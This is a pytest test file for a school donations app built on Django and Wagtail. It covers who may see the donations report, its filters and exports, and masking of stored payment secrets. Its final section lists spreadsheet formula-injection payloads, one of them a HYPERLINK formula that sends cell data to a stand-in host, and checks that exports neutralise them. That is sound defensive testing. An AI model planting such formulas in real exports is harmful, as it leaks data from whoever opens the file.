"""The school's side: the donations report (school admins see all, teachers their classes'
pages, students and visitors nothing), its filters, totals and CSV / XLSX export; and the
donation settings, which never show a stored secret back in full."""

import csv
import io

import openpyxl
import pytest
from django.utils.html import escape
from wagtail.models import Site

from conftest import client_as, client_for
from donations.forms import ERROR_OWN_ACCOUNT_INCOMPLETE
from donations.models import DonationSettings, Status
from donations.selectors import school_credentials
from donations.tests.factories import donation_row

pytestmark = pytest.mark.django_db

REPORT = "/admin/reports/donations/"


@pytest.fixture
def donations(school):
    return {
        "art_paid": donation_row(
            classroom="Art", amount=500, donor_name="Art donor", message="For paint"
        ),
        "art_failed": donation_row(
            classroom="Art", status=Status.CANCELLED, amount=300, donor_name="Art quitter"
        ),
        "media_paid": donation_row(
            classroom="Media Studies", amount=1000, donor_name="Media donor"
        ),
    }


def _names(response) -> set[str]:
    html = response.content.decode()
    return {name for name in ("Art donor", "Art quitter", "Media donor") if name in html}


def test_school_admins_see_every_donation_with_totals(school, donations):
    response = client_as(school, "admin@greenwood.test").get(REPORT)
    assert response.status_code == 200
    assert _names(response) == {"Art donor", "Art quitter", "Media donor"}
    assert "3 donations listed" in response.content.decode()
    assert "2 paid, KES 1500" in response.content.decode()
    assert "For paint" in response.content.decode()


@pytest.mark.parametrize(
    "teacher, seen",
    [("grace", {"Art donor", "Art quitter"}), ("peter", {"Media donor"})],
)
def test_teachers_see_their_classes_donations_only(school, donations, teacher, seen):
    response = client_as(school, teacher).get(REPORT)
    assert response.status_code == 200
    assert _names(response) == seen


def test_teachers_cannot_filter_their_way_to_another_class(school, donations):
    media = donations["media_paid"].classroom
    response = client_as(school, "grace").get(REPORT, {"classroom": media.pk})
    assert "Media donor" not in response.content.decode()


def test_students_and_visitors_get_no_report(school, donations):
    # Students have no Wagtail admin at all: Wagtail sends them, like visitors, to sign in.
    for client in (client_as(school, "amina"), client_for(school)):
        response = client.get(REPORT)
        assert response.status_code == 302
        assert response["Location"].startswith("/admin/login/")
    menu = client_as(school, "grace").get("/admin/").content.decode()
    assert REPORT in menu


def test_filters(school, donations):
    admin = client_as(school, "admin@greenwood.test")
    assert _names(admin.get(REPORT, {"status": "cancelled"})) == {"Art quitter"}
    art = donations["art_paid"].classroom
    assert _names(admin.get(REPORT, {"classroom": art.pk})) == {"Art donor", "Art quitter"}
    page = donations["media_paid"].page
    assert _names(admin.get(REPORT, {"page": page.pk})) == {"Media donor"}
    today = donations["art_paid"].created_at.date().isoformat()
    dated = admin.get(REPORT, {"created_at_from": today, "created_at_to": today})
    assert len(_names(dated)) == 3
    assert (
        _names(admin.get(REPORT, {"created_at_from": "2000-01-01", "created_at_to": "2000-01-02"}))
        == set()
    )
    filtered = admin.get(REPORT, {"status": "paid"}).content.decode()
    assert "2 donations listed" in filtered and "KES 1500" in filtered


def test_csv_export(school, donations):
    response = client_as(school, "grace").get(REPORT, {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {row["Donor name"] for row in rows} == {"Art donor", "Art quitter"}
    paid = next(row for row in rows if row["Donor name"] == "Art donor")
    assert paid["Amount (KES)"] == "500"
    assert paid["Status"] == "paid"
    assert paid["M-Pesa receipt"] == donations["art_paid"].mpesa_receipt
    assert paid["Phone"] == "25471•••670"  # never the full number


def test_xlsx_export(school, donations):
    response = client_as(school, "admin@greenwood.test").get(REPORT, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, *rows = list(sheet.values)
    assert header[:3] == ("Date", "Amount (KES)", "Status")
    assert sorted(row[1] for row in rows) == [300, 500, 1000]


# --- The school's settings -------------------------------------------------------------------
SETTINGS_URL = "/admin/settings/donations/donationsettings/{site}/"
PASSKEY = "a-very-secret-passkey-9f3e"
SECRET = "consumer-secret-77aa"


def _settings_url():
    return SETTINGS_URL.format(site=Site.objects.get(is_default_site=True).pk)


def _own_account(**changes):
    data = {
        "enabled": "on",
        "account_reference": "Greenwood",
        "shortcode": "600100",
        "transaction_type": "CustomerPayBillOnline",
        "till_number": "",
        "passkey": PASSKEY,
        "consumer_key": "school-key-1234",
        "consumer_secret": SECRET,
    }
    return {**data, **changes}


def test_a_school_sets_its_own_account_and_never_sees_the_secrets_again(school):
    admin = client_as(school, "admin@greenwood.test")
    response = admin.post(_settings_url(), _own_account())
    assert response.status_code == 302, response.content.decode()[:3000]
    stored = DonationSettings.objects.get()
    assert (stored.passkey, stored.consumer_secret) == (PASSKEY, SECRET)
    credentials = school_credentials()
    assert (credentials.shortcode, credentials.passkey, credentials.consumer_key) == (
        "600100",
        PASSKEY,
        "school-key-1234",
    )

    page = admin.get(_settings_url()).content.decode()
    assert PASSKEY not in page and SECRET not in page and "school-key-1234" not in page
    assert "••••••••9f3e" in page and "••••••••77aa" in page

    # Saved again with the secrets left empty: they are kept.
    blank = {"passkey": "", "consumer_key": "", "consumer_secret": ""}
    assert admin.post(_settings_url(), _own_account(**blank)).status_code == 302
    stored.refresh_from_db()
    assert (stored.passkey, stored.consumer_secret) == (PASSKEY, SECRET)


def test_an_own_shortcode_needs_its_secrets(school):
    admin = client_as(school, "admin@greenwood.test")
    response = admin.post(_settings_url(), _own_account(passkey=""))
    assert response.status_code == 200
    assert escape(str(ERROR_OWN_ACCOUNT_INCOMPLETE)) in response.content.decode()


def test_without_an_own_shortcode_the_platforms_account_is_used(school, settings):
    admin = client_as(school, "admin@greenwood.test")
    admin.post(_settings_url(), _own_account())
    admin.post(_settings_url(), _own_account(shortcode=""))
    stored = DonationSettings.objects.get()
    assert (stored.passkey, stored.consumer_key, stored.consumer_secret) == ("", "", "")
    assert school_credentials().shortcode == settings.DARAJA_SHORTCODE


def test_teachers_cannot_open_the_settings(school):
    response = client_as(school, "grace").get(_settings_url())
    assert (response.status_code, response["Location"]) == (302, "/admin/")  # Wagtail's refusal


# --- Exports that cannot run code in a spreadsheet (core.exports) ----------------------------
FORMULAS = [
    '=HYPERLINK("https://x.example/?"&A2,"x")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def _export(school, export_format):
    response = client_as(school, "admin@greenwood.test").get(REPORT, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _xlsx_rows(content: bytes) -> list[dict]:
    """Each row as {heading: cell}, the cells as openpyxl reads them back."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, *rows = list(sheet.iter_rows())
    return [{h.value: cell for h, cell in zip(header, row, strict=True)} for row in rows]


@pytest.mark.parametrize("text", FORMULAS)
def test_exported_text_that_looks_like_a_formula_is_only_text(school, text):
    donation_row(donor_name=text, message=text, amount=250, result_code=-1)

    [row] = list(csv.DictReader(io.StringIO(_export(school, "csv").decode(), newline="")))
    assert row["Donor name"] == "'" + text
    assert row["Message"] == "'" + text
    # Numbers are not text: they stay numbers, a negative one included.
    assert (row["Amount (KES)"], row["Result code"]) == ("250", "-1")

    [cells] = _xlsx_rows(_export(school, "xlsx"))
    for heading in ("Donor name", "Message"):
        cell = cells[heading]
        # Without lxml, openpyxl reads a carriage return back as a line feed (XML's rule);
        # with it (pikepdf brings it), as written.
        assert cell.data_type == "s"
        assert cell.value in ("'" + text, "'" + text.replace("\r", "\n"))
    assert (cells["Amount (KES)"].data_type, cells["Amount (KES)"].value) == ("n", 250)
    assert (cells["Result code"].data_type, cells["Result code"].value) == ("n", -1)
    assert cells["Date"].is_date


def test_ordinary_text_is_exported_as_typed(school):
    donation_row(donor_name="Wanjiku O'Brien", message="Asante! 100% for paint - Form 2")

    [row] = list(csv.DictReader(io.StringIO(_export(school, "csv").decode())))
    assert (row["Donor name"], row["Message"]) == (
        "Wanjiku O'Brien",
        "Asante! 100% for paint - Form 2",
    )
    [cells] = _xlsx_rows(_export(school, "xlsx"))
    assert cells["Donor name"].value == "Wanjiku O'Brien"
    assert cells["Message"].value == "Asante! 100% for paint - Form 2"
